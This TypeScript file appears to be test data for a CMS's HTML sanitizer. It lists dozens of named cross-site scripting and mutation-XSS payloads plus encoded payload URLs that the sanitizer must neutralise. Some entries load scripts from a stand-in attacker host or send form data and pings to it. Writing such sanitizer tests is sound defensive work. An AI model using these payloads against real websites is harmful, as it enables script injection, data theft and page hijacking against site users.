/** Markup that must have no effect, by name: known cases of script injection, mutation and tracking. */
export const hostile = Object.entries({
  'a script': '<p>a</p><script>alert(1)</script>',
  'a script from elsewhere': '<script async src="https://platform.twitter.com/widgets.js"></script>',
  'a script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'a script in pieces': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script that never ends': '<p>a<script>alert(1)',
  'a script within an HTML card': '<!--kg-card-begin: html--><script>a()</script><!--kg-card-end: html-->',
  'a comment that ends early': '<!--><script>alert(1)</script>-->',
  'a handler': '<img src="/content/images/a.png" onerror="alert(1)">',
  'a bookmark’s handler': '<img src="/content/images/a.png" alt onerror="this.style.display=\'none\'">',
  'a handler without quotes': '<p onclick=alert(1)>a</p>',
  'a handler without space': '<img src="x"onerror=alert(1)>',
  'a handler after a slash': '<p/onmouseover=alert(1)>a</p>',
  'a javascript link': '<a href="javascript:alert(1)">a</a>',
  'a javascript link in capitals': '<a href=" JaVaScRiPt:alert(1)">a</a>',
  'a javascript link with a line break': '<a href="java\nscript:alert(1)">a</a>',
  'a javascript link in entities': '<a href="&#106;avascript&colon;alert(1)">a</a>',
  'a javascript link after a control character': '<a href="\u0001javascript:alert(1)">a</a>',
  'a data link': '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  'a javascript frame': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame with its own document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a drawing': '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  'a drawing with a style': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'a formula': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a()&gt;">',
  'a form': '<form action="https://evil.example"><input name="email"><button formaction="x"></button></form>',
  'raw text': '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
  'a noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a text area': '<textarea><script>alert(1)</script></textarea><title><script>a()</script></title>',
  'a template': '<template><script>alert(1)</script></template>',
  'an object': '<object data="x.swf"></object><embed src="x.swf"><applet></applet>',
  'what changes the page': '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=x"><link rel=x>',
  'a style element': '<style>body { display: none }</style><p>a</p>',
  'a style attribute': '<p style="position:fixed;inset:0;background:url(//evil.example)">a</p>',
  'bad nesting': '<b><p><script></b>alert(1)</p></script><a href="x"><a href="javascript:x">a</a></p></div>',
  'a tag within an attribute': '<p title="<script>alert(1)</script>">a</p>',
  'a stray quote': '<a href="x" title="\'"><img title="\'><script>a()</script>">',
  'a script of a module': '<script type="module">alert(1)</script><script type="importmap">{}</script>',
  'a script after a null character': '<scr\u0000ipt>alert(1)</scr\u0000ipt><a href="java\u0000script:alert(1)">a</a>',
  'a handler in a body or a frame set':
    '<body onload=alert(1)><frameset onload=alert(1)><frame src="javascript:alert(1)">',
  'handlers of modern elements':
    '<details open ontoggle=alert(1)><summary>a</summary></details><dialog open oncancel=alert(1)>',
  'handlers of films':
    '<video src="/media/x" onloadstart=alert(1)><source onerror=alert(1)></video><audio src onerror=alert(1)>',
  'a handler after a back quote': '<img src=`x` onerror=alert(1)><img src="x` `onerror=alert(1)">',
  'a handler on an animation': '<p style="animation: x" onanimationstart="alert(1)">a</p><style>@keyframes x{}</style>',
  'a handler by focus':
    '<a href="#x" id="x" tabindex="1" onfocus=alert(1) autofocus>a</a><input autofocus onfocus=alert(1)>',
  'a javascript link with tabs': '<a href="jav&#x09;ascript:alert(1)">a</a><a href="j\ta\nv\rascript:alert(1)">b</a>',
  'a javascript link with a comment': '<a href="javascript://example.com/%0aalert(1)">a</a>',
  'a javascript link in long entities': '<a href="&#0000106&#0000097vascript:alert(1)">a</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">a</a><a href="blob:https://x/1">b</a><a href="filesystem:x">c</a>',
  'a javascript picture':
    '<img src="javascript:alert(1)"><img srcset="javascript:alert(1) 1x"><picture><source srcset="javascript:x">',
  'a javascript poster': '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
  'a data picture':
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"><object data="data:text/html,<script>a()</script>">',
  'a frame under a disguise':
    '<iframe src="java&Tab;script:alert(1)"></iframe><iframe src="data:text/html,<script>a()</script>">',
  'a frame of a host in disguise': '<iframe src="https://www.youtube-nocookie.com.bad.example/embed/x"></iframe>',
  'a façade that is forged':
    '<div class="kg-embed" data-frame="https://evil.example/"><p class="kg-embed-actions"></p></div>',
  'a façade with a script':
    '<div class="kg-embed" data-frame="javascript:alert(1)"><p class="kg-embed-actions"></p></div>',
  'a drawing that animates':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a</text></a></svg>',
  'a drawing within a use': '<svg><use href="data:image/svg+xml,<svg id=x><script>a()</script></svg>#x"/></svg>',
  'a drawing that loads':
    '<svg onload=alert(1)><svg/onload=alert(1)><foreignObject><iframe onload=alert(1)></foreignObject>',
  'a formula with a link': '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>',
  'mutation through a noscript': '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  'mutation through a style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mutation through a title': '<svg><title><style></title><img src=x onerror=alert(1)></style></title></svg>',
  'mutation through a formula': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mutation through a table': '<table><td><svg><desc><td></desc><style><a title="</style><img src onerror=alert(1)>">',
  'mutation through a select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=alert(1)>"></a>',
  'mutation through a comment': '<!--<img src="--><img src=x onerror=alert(1)//">--!><img src=x onerror=alert(1)>-->',
  'mutation through CDATA': '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><![CDATA[<script>alert(1)</script>]]>',
  'mutation through raw text':
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed><listing>&lt;img onerror=a()&gt;</listing>',
  'mutation through an attribute': '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;" href="#">a</a>',
  'mutation through code':
    '<pre><code class="language-html">&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;a()&lt;/script&gt;</code></pre>',
  'mutation through a toggle':
    '<div class="kg-toggle-card"><h4 class="kg-toggle-heading-text"><img src=x onerror=alert(1)></h4></div>',
  'mutation through a sign-up':
    '<div class="kg-signup-card"><h2 class="kg-signup-card-heading">&lt;img src=x onerror=alert(1)&gt;</h2></div>',
  'names that clobber':
    '<img id="body" name="createElement"><a id="getElementById" name="cookie"></a><form id="__proto__" name="x">',
  'links and metas':
    '<link rel="stylesheet" href="//evil.example/x.css"><link rel="preload" as="image" href="//evil.example/x">',
  'a portal and a marquee':
    '<portal src="//evil.example"></portal><marquee onstart=alert(1)>a</marquee><isindex action="javascript:x">',
  'what sends itself':
    '<form action="https://evil.example" id="f"></form><input form="f"><button form="f" type="submit">a</button>',
  'a ping': '<a href="https://example.com/" ping="https://evil.example/" target="_blank">a</a>',
  'a background':
    '<table background="//evil.example/x"><tr background="//evil.example/y"><td background="javascript:alert(1)">a',
  'pictures of another host':
    '<img src="//evil.example/x.png"><img srcset="https://evil.example/x 1x"><video poster="//evil.example/p">',
})

/** Encoded markup in every address of a post that the site normalises. */
export function hostileAddresses(cms: string): [name: string, html: string][] {
  const markups = [
    '%3Cmeta%20http-equiv=refresh%20content=0;url=http:%2F%2Fevil.invalid%2F%3E',
    '%3Cimg%20src=x%20onerror=alert(1)%3E',
    '%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ]
  const addresses = ['/blog/', '/en/blog/', '/en/blog/tag/', '/', '/tag/', '/contact#', '/blog/a#', '/content/files/']
    .flatMap((path) => markups.map((markup) => `${cms}${path}${markup}`))
    .flatMap((address) => [address, `https://share.example/?url=${address}`, encodeURIComponent(encodeURI(address))])
  const everywhere = (write: (address: string) => string) => addresses.map(write).join('')
  return [
    ['an address in a text', everywhere((address) => `<p>a ${address} b</p>`)],
    ['an address in code', everywhere((address) => `<pre><code class="language-html">${address}</code></pre>`)],
    ['an address in a link', everywhere((address) => `<a href="${address}">${address}</a>`)],
    ['an address in attributes', everywhere((address) => `<p title="${address}" aria-label="${address}">a</p>`)],
    [
      'an address of a picture',
      everywhere((address) => `<img src="${address}" alt="${address}" srcset="${address} 1x">`),
    ],
  ]
}
